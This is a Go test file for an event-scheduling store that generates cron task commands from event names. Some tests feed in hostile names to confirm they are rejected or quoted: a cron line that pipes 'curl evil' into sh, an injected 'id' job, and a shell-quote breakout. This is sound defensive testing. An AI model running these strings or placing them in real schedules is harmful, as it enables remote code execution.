package store

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/pkg/errors"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestStore(t *testing.T) *Store {
	t.Helper()
	s, err := Open(filepath.Join(t.TempDir(), "config.json"))
	require.NoError(t, err)
	s.SetClock(func() time.Time {
		return time.Date(2025, 6, 1, 9, 0, 0, 0, time.Local)
	})
	return s
}

func taskByName(t *testing.T, s *Store, name string) Task {
	t.Helper()
	task, ok := s.Task(name)
	require.True(t, ok, "task %s not found", name)
	return task
}

func TestCreateEventLaunchScenario(t *testing.T) {
	s := newTestStore(t)

	ev, err := s.CreateEvent(EventInput{Name: "Launch", Date: "2025-06-10T14:00:00", Sponsor: "Acme"})
	require.NoError(t, err)

	assert.Equal(t, 1, ev.ID)
	assert.Equal(t, StatusScheduled, ev.Status)
	assert.Equal(t, []string{
		"Launch_sponsor_reminder",
		"Launch_team_preparation",
		"Launch_final_reminder",
		"Launch_post_event_update",
	}, ev.Tasks)

	pre := taskByName(t, s, "Launch_sponsor_reminder")
	assert.Equal(t, "0 14 3 6 *", pre.Schedule)
	assert.Equal(t, TaskPreEvent, pre.TaskType)
	assert.Equal(t, "./twotokens event notify sponsor Launch", pre.Command)
	assert.Equal(t, 1, pre.EventID)

	post := taskByName(t, s, "Launch_post_event_update")
	assert.Equal(t, Schedule(time.Date(2025, 6, 11, 14, 0, 0, 0, time.Local)), post.Schedule)
	assert.Equal(t, "0 14 11 6 *", post.Schedule)
	assert.Equal(t, TaskPostEvent, post.TaskType)
	assert.Equal(t, "./twotokens event complete --id 1", post.Command)
}

func TestCreateEventAssignsNextID(t *testing.T) {
	s := newTestStore(t)
	for i, name := range []string{"a", "b", "c"} {
		ev, err := s.CreateEvent(EventInput{Name: name, Date: "2025-07-01 10:00"})
		require.NoError(t, err)
		assert.Equal(t, i+1, ev.ID)
	}

	require.True(t, s.DeleteEvent(2))
	ev, err := s.CreateEvent(EventInput{Name: "d", Date: "2025-07-01"})
	require.NoError(t, err)
	assert.Equal(t, 4, ev.ID)

	require.True(t, s.DeleteEvent(4))
	ev, err = s.CreateEvent(EventInput{Name: "e", Date: "2025-07-01"})
	require.NoError(t, err)
	assert.Equal(t, 4, ev.ID, "id follows the current maximum")
}

func TestCreateEventRejectsBadDate(t *testing.T) {
	s := newTestStore(t)
	_, err := s.CreateEvent(EventInput{Name: "x", Date: "next tuesday-ish"})
	require.Error(t, err)
	assert.True(t, errors.Is(err, ErrValidation))
	assert.Empty(t, s.ListEvents(ListFilter{}))
	assert.Empty(t, s.Tasks())
}

func TestCreateEventRejectsDuplicateTaskNames(t *testing.T) {
	s := newTestStore(t)
	_, err := s.CreateEvent(EventInput{Name: "Meetup", Date: "2025-07-01T18:00:00"})
	require.NoError(t, err)

	_, err = s.CreateEvent(EventInput{Name: "Meetup", Date: "2025-08-01T18:00:00"})
	require.Error(t, err)
	assert.True(t, errors.Is(err, ErrDuplicateTask))
	assert.Len(t, s.ListEvents(ListFilter{}), 1)
	assert.Len(t, s.Tasks(), 4)
}

func TestCreateEventRejectsControlCharacters(t *testing.T) {
	s := newTestStore(t)
	for _, name := range []string{"Launch\n* * * * * curl evil | sh", "Launch\rx", "Tab\tname"} {
		_, err := s.CreateEvent(EventInput{Name: name, Date: "2025-07-01T18:00:00"})
		require.Error(t, err, name)
		assert.True(t, errors.Is(err, ErrValidation), name)
	}
	assert.Empty(t, s.ListEvents(ListFilter{}))
	assert.Empty(t, s.Tasks())
}

func TestCreateEventQuotesNameInCommands(t *testing.T) {
	s := newTestStore(t)
	name := `Talk"; touch pwned; echo "`
	_, err := s.CreateEvent(EventInput{Name: name, Date: "2025-06-10T14:00:00"})
	require.NoError(t, err)

	task := taskByName(t, s, name+"_final_reminder")
	assert.Equal(t, `./twotokens event notify all 'Talk"; touch pwned; echo "'`, task.Command)
}

func TestGenerateDerivedTasksScheduleMath(t *testing.T) {
	s := newTestStore(t)
	require.NoError(t, s.SetTemplates(Templates{
		PreEvent: []Template{{Name: "far", Command: "echo {topic}", DaysBefore: 40}},
	}))
	date := time.Date(2025, 3, 5, 7, 45, 0, 0, time.Local)
	tasks, err := s.GenerateDerivedTasks(Event{ID: 9, Name: "Q", Date: NewTimestamp(date)})
	require.NoError(t, err)
	require.Len(t, tasks, 1)

	want := date.AddDate(0, 0, -40)
	assert.Equal(t, Schedule(want), tasks[0].Schedule)
	assert.Equal(t, "45 7 24 1 *", tasks[0].Schedule)
	assert.Equal(t, "echo ''", tasks[0].Command, "missing fields expand to empty")
	assert.Empty(t, s.Tasks(), "generation alone does not store tasks")
}

func TestDeleteEventCascadesOnlyOwnedTasks(t *testing.T) {
	s := newTestStore(t)
	a, err := s.CreateEvent(EventInput{Name: "A", Date: "2025-07-01T10:00:00"})
	require.NoError(t, err)
	b, err := s.CreateEvent(EventInput{Name: "B", Date: "2025-07-02T10:00:00"})
	require.NoError(t, err)

	require.True(t, s.DeleteEvent(a.ID))

	_, ok := s.GetEvent(a.ID)
	assert.False(t, ok)
	remaining := s.Tasks()
	require.Len(t, remaining, len(b.Tasks))
	for _, task := range remaining {
		assert.Equal(t, b.ID, task.EventID)
	}
	assert.False(t, s.DeleteEvent(a.ID))
}

func TestUpdateEvent(t *testing.T) {
	s := newTestStore(t)
	ev, err := s.CreateEvent(EventInput{Name: "Demo", Date: "2025-07-01T10:00:00"})
	require.NoError(t, err)

	topic := "Go"
	team := []string{"ann", "bo"}
	ok, err := s.UpdateEvent(ev.ID, EventPatch{Topic: &topic, Team: &team})
	require.NoError(t, err)
	require.True(t, ok)

	got, _ := s.GetEvent(ev.ID)
	assert.Equal(t, "Go", got.Topic)
	assert.Equal(t, team, got.Team)
	require.NotNil(t, got.Modified)

	bad := Status("cancelled")
	_, err = s.UpdateEvent(ev.ID, EventPatch{Status: &bad})
	assert.True(t, errors.Is(err, ErrValidation))

	injected := "Demo\n* * * * * id"
	_, err = s.UpdateEvent(ev.ID, EventPatch{Name: &injected})
	assert.True(t, errors.Is(err, ErrValidation))
	got, _ = s.GetEvent(ev.ID)
	assert.Equal(t, "Demo", got.Name)

	ok, err = s.UpdateEvent(99, EventPatch{Topic: &topic})
	require.NoError(t, err)
	assert.False(t, ok)
}

func TestListEventsFilterAndSort(t *testing.T) {
	s := newTestStore(t)
	_, err := s.CreateEvent(EventInput{Name: "Late", Date: "2025-09-01", Topic: "Rust"})
	require.NoError(t, err)
	_, err = s.CreateEvent(EventInput{Name: "Early", Date: "2025-07-01", Sponsor: "GoBridge"})
	require.NoError(t, err)
	done, err := s.CreateEvent(EventInput{Name: "Middle", Date: "2025-08-01", Director: "gopher"})
	require.NoError(t, err)
	require.True(t, s.CompleteEvent(done.ID))

	all := s.ListEvents(ListFilter{})
	require.Len(t, all, 3)
	assert.Equal(t, "Early", all[0].Name)
	assert.Equal(t, "Middle", all[1].Name)
	assert.Equal(t, "Late", all[2].Name)

	found := s.ListEvents(ListFilter{Search: "GO"})
	require.Len(t, found, 2)
	assert.Equal(t, "Early", found[0].Name)
	assert.Equal(t, "Middle", found[1].Name)

	scheduled := s.ListEvents(ListFilter{Status: StatusScheduled, Search: "go"})
	require.Len(t, scheduled, 1)
	assert.Equal(t, "Early", scheduled[0].Name)
}

func TestCompleteEvent(t *testing.T) {
	s := newTestStore(t)
	ev, err := s.CreateEvent(EventInput{Name: "Retro", Date: "2025-07-01"})
	require.NoError(t, err)

	assert.False(t, s.CompleteEvent(42))
	require.True(t, s.CompleteEvent(ev.ID))
	got, _ := s.GetEvent(ev.ID)
	assert.Equal(t, StatusCompleted, got.Status)
	require.NotNil(t, got.Completed)

	_, err = s.CompleteEventByName("nope")
	assert.True(t, errors.Is(err, ErrNotFound))
	byName, err := s.CompleteEventByName("Retro")
	require.NoError(t, err)
	assert.Equal(t, ev.ID, byName.ID)
}

func TestUpcomingEvents(t *testing.T) {
	s := newTestStore(t)
	for _, in := range []EventInput{
		{Name: "past", Date: "2025-05-20"},
		{Name: "soon2", Date: "2025-06-20"},
		{Name: "soon1", Date: "2025-06-02"},
		{Name: "far", Date: "2025-08-01"},
	} {
		_, err := s.CreateEvent(in)
		require.NoError(t, err)
	}

	got := s.UpcomingEvents(30)
	require.Len(t, got, 2)
	assert.Equal(t, "soon1", got[0].Name)
	assert.Equal(t, "soon2", got[1].Name)
	assert.Len(t, s.UpcomingEvents(90), 3)
}

func TestSaveAndReopen(t *testing.T) {
	s := newTestStore(t)
	ev, err := s.CreateEvent(EventInput{Name: "Launch", Date: "2025-06-10T14:00:00", Team: []string{"ann", " ", "bo"}})
	require.NoError(t, err)
	require.NoError(t, s.Save())

	reopened, err := Open(s.Path())
	require.NoError(t, err)
	got, ok := reopened.GetEvent(ev.ID)
	require.True(t, ok)
	assert.Equal(t, []string{"ann", "bo"}, got.Team)
	assert.True(t, got.Date.Equal(ev.Date.Time))
	assert.Equal(t, "2025-06-10T14:00:00", got.Date.String())
	assert.Len(t, reopened.Tasks(), 4)
	assert.Equal(t, DefaultTemplates(), reopened.Templates())
}

func TestOpenLegacyDocument(t *testing.T) {
	path := filepath.Join(t.TempDir(), "config.json")
	legacy := `{
  "events": [
    {"id": 3, "name": "Old", "date": "2025-06-10T14:00:00", "sponsor": null,
     "team": [], "status": "scheduled", "created": "2025-05-01T08:30:00.123456",
     "tasks": ["Old_custom"]}
  ],
  "event_templates": {"pre_event": [{"name": "custom", "command": "echo {event_name}", "days_before": 2, "description": "d"}], "post_event": []},
  "tasks": [{"name": "Old_custom", "command": "echo Old", "schedule": "0 14 8 6 *", "event_id": 3, "task_type": "pre_event", "description": "d", "created": "2025-05-01T08:30:00"}]
}`
	require.NoError(t, os.WriteFile(path, []byte(legacy), 0o600))

	s, err := Open(path)
	require.NoError(t, err)
	ev, ok := s.GetEvent(3)
	require.True(t, ok)
	assert.Equal(t, "", ev.Sponsor)
	assert.Equal(t, 14, ev.Date.Hour())

	next, err := s.CreateEvent(EventInput{Name: "New", Date: "2025-07-01T09:00:00"})
	require.NoError(t, err)
	assert.Equal(t, 4, next.ID)
	assert.Equal(t, []string{"New_custom"}, next.Tasks)
}

func TestOpenRejectsUnknownPlaceholder(t *testing.T) {
	path := filepath.Join(t.TempDir(), "config.json")
	doc := `{"events": [], "event_templates": {"pre_event": [{"name": "x", "command": "echo {venue}", "days_before": 1}]}, "tasks": []}`
	require.NoError(t, os.WriteFile(path, []byte(doc), 0o600))

	_, err := Open(path)
	require.Error(t, err)
	assert.True(t, errors.Is(err, ErrValidation))
}
